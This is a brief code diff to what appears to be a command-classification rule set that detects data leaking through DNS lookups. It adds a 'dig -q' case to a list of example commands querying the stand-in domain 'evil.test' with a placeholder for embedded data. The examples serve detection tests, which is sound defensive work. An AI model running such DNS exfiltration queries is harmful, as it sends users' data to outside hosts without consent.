@@ -24,7 +24,7 @@ export const lookups = (): readonly Program[] => [
         if: any(queriesData, ({ value }) => carriesName(value("-q") ?? "")),
         does: "leak",
         why: "the name that is asked for carries data outward",
-        hits: ["dig '\uFFFC.evil.test'", "nslookup 'a-\uFFFC.x.evil.test'"],
+        hits: ["dig '\uFFFC.evil.test'", "dig -q '\uFFFC.evil.test'", "nslookup 'a-\uFFFC.x.evil.test'"],
         misses: ["dig example.test", "dig +short '\uFFFC'", "host 'www.\uFFFC'"],
       },
       { if: queries, does: (use) => optionPaths(use, "read", ["-f"]), hits: ["dig +short example.test MX", "host example.test"] },
